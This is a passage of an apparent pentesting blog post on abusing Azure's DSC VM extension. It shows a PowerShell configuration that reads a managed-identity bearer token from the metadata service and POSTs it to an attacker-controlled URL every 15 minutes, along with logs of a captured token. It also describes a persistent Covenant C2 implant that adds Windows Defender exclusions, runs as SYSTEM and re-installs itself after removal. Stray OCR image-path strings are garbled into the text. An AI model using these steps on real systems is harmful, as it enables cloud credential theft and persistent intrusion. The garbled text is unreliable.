        $metadataResponse = Invoke-WebRequest -Uri '' -Method GET -Headers @{Metadata="true"} -UseBasicParsing
        [Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls -bor [Net.SecurityProtocolType]::Tls11 -bor [Net.SecurityProtocolType]::Tls12
        Invoke-RestMethod -Method 'Post' -URI $using:ExportURL -Body $metadataResponse.Content -ContentType "application/json"
      TestScript = {
        return $false
      GetScript = { return @{result = 'result'} }The ExportManagedIdentityToken.ps1 Configuration Snippet

In the above configuration, there are a few of key components:

  1. Note that we’re passing in the$ExportURL value as a Configuration parameter. This allows us to re-use the configuration and decide where the bearer token will be exfilitrated at deployment time.
  2. As described earlier, the SetScript script block obtains the bearer token from the Azure Metadata Service URL and sends it as a POST request to the $ExportURL value.
  3. The TestScript ScriptBlock always returns false. This ensures the commands are executed 15 minutes, guaranteeing we always have a fresh, valid bearer token for extended persistence.

To receive and process the bearer token sent by the script, we’ll deploy a simple PowerShell Azure Function App to a separate subscription under our control. This will extract the incoming bearer token and call the Azure REST APIs to review the permissions assigned to it. The full code for the Function App is available here and essentially copy-pasted from Josh’s blog in the “Enumeration” section.

We’ll deploy the script with the Invoke-DscVmExtension function described in the previous section. In this example, we’ll pass the target VM via the pipeline, and we’ll pass the $ExportURL value as a ConfigurationArgument. The function will automatically handle the deployment and cleanup.

PS C: > Get-AzVM -Name jk-dsc-testing -ResourceGroupName tester  |  Invoke-DscVmExtension -ConfigurationArchiveURL "" -ConfigurationArgument @{ExportURL="https://[your-function-app]"}
Deploying DSC to VM: jk-dsc-testing
Deployment Successful: True
Deleting DSC extension from VM: jk-dsc-testing
Removal Successful: True

Deploying the ExportManagedIdentityToken script via the Invoke-DscVmExtension function

During the deployment, and every 15 minutes thereafter, the bearer token will be POSTed to the Function App. We can monitor the Function App’s logs to observe the incoming value and which permissions are assigned to the managed identity.

2021-06-08T04:13:45.474 [Information] Executing 'Functions.MgCatchingFunction' (Reason='This function was programmatically called via the host APIs.',Id=d0dd2ee5-6b47-48c6-8bf2-10e74197e769)
2021-06-08T04:13:45.481 [Information] INFORMATION: PowerShell HTTP trigger function processed a request. Incoming JSON contents
2021-06-08T04:13:45.486 [Information] OUTPUT:
2021-06-08T04:13:45.487 [Information] OUTPUT: Name                           Value
2021-06-08T04:13:45.491 [Information] OUTPUT:----                           -----
2021-06-08T04:13:45.491 [Information] OUTPUT: resource
2021-06-08T04:13:45.492 [Information] OUTPUT: access_token                   eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiIsIng1dCI6Im5PbzNaRHJPRFhFSzFqS1doWHNsSFJfS1hFZyIsImtp…
2021-06-08T04:13:45.492 [Information] OUTPUT: expires_on                     1623209325
2021-06-08T04:13:45.492 [Information] OUTPUT: ext_expires_in                 86399
2021-06-08T04:13:45.493 [Information] OUTPUT: token_type                     Bearer
2021-06-08T04:13:45.494 [Information] OUTPUT: client_id                      367d6d5b-cf5f-4818-abb6-b6ea700b377f
2021-06-08T04:13:45.495 [Information] OUTPUT: not_before                     1623122625
2021-06-08T04:13:45.495 [Information] OUTPUT: expires_in                     83700
2021-06-08T04:13:45.495 [Information] INFORMATION: Access token
2021-06-08T04:13:45.496 [Information] OUTPUT: eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiIsIng1dCI6Im5PbzNaRHJPRFhFSzFqS1doWHNsSFJfS1hFZyIsImtp…
2021-06-08T04:13:45.496 [Information] INFORMATION: Principal ID
2021-06-08T04:13:45.496 [Information] OUTPUT: 821ace7f-e6d8-4ba2-8304-ef45fbb4fb19
2021-06-08T04:13:45.496 [Information] INFORMATION: /subscriptions/d4[REDACTED]b2/resourcegroups/tester/providers/Microsoft.Compute/virtualMachines/jk-dsc-testing2021-06-08T04:13:45.497 [Information] INFORMATION: Subscription ID
2021-06-08T04:13:45.497 [Information] OUTPUT: d4[REDACTED]b2
2021-06-08T04:13:45.497 [Information] INFORMATION: VM Name
2021-06-08T04:13:45.497 [Information] OUTPUT: jk-dsc-testing
2021-06-08T04:13:46.001 [Information] OUTPUT: Current identity has permission Reader on scope /subscriptions/d4[REDACTED]b2

Deploying the ExportManagedIdentityToken script via the Invoke-DscVmExtension function

Example 2: A Persistent Command and Control Implant

Using DSC, not only can we execute tasks on a recurring schedule, but we can also utilize its self-correcting behavior to deploy persistent C2 implants on the target VM. In the example below, we’ll be using Covenant as our C2 framework. This will both host our malicious executable and listen for its callback. This blog won’t cover how to use Covenant, but for moreinformation on that topic, please see my previous blog post in which I deployed Covenant’s implants (“grunts”) using Azure’s Custom Script Extension.

The DeployDSCAgent DSC configuration performs the following tasks:

  1. Create a destination folder for the executable to be downloaded into.
  2. Create a Windows Defender exclusion for the destination folder.
  3. Create a Windows Defender exclusion for the full path of the executable.
  4. Create a Windows Defender exclusion for the executable’s process.
  5. Download the hosted implant from the input URL.
  6. Executes the malicious implant, providing remote control as the SYSTEM process.

The full code for the DSC configuration is relatively simple, but a bit too long to include here. If you’re interested, the code is available for review on GitHub. Deploying the DSC extension to the target VM is as straightforward as before:

PS C: > Get-AzVM -Name jk-dsc-testing -ResourceGroupName tester  |  Invoke-DscVmExtension -ConfigurationArchiveURL "" -ConfigurationArgument @{ImplantURL=""}
Deploying DSC to VM: jk-dsc-testing
Deployment Successful: True
Deleting DSC extension from VM: jk-dsc-testing
Removal Successful: True

Deploying the DeployDSCAgent script via the Invoke-DscVmExtension function

A few minutes after theInvoke-DscVmExtension command is started, our Covenant listener will detect that the implant hasbeen executed and is awaiting further commands.

The Covenant implant is deployed and connects back to the C2 server.
The Covenant implant is deployed and connects back to the C2 server.

The beauty of using DSC for this task is that the status of the above 6 tasks will be automatically checked every 15 minutes. If any of them are incomplete (for example, if a sysadmin deletes our implant, kills the process, or removes the Defender exclusions) then they will be automatically re-executed along with any previous steps. This provides us with robust persistence on the target VM.Final Thoughts

We’ve seen how the DSCVM extension provides yet another mechanism for privileged Azure users (such as those with the Contributor role) to achieve command execution on Azure VMs. While other VM extensions provide command execution as well, the DSC VM extension offers built-in support for recurring commands and advanced persistence techniques. The Invoke-DscVmExtension cmdlet added into the MicroBurst framework provides easy reusability of premade, public DSC configurations for use on multiple pentest engagements. All together, the DSC VM extension is robust toolwhich should be considered for any Azure pentester.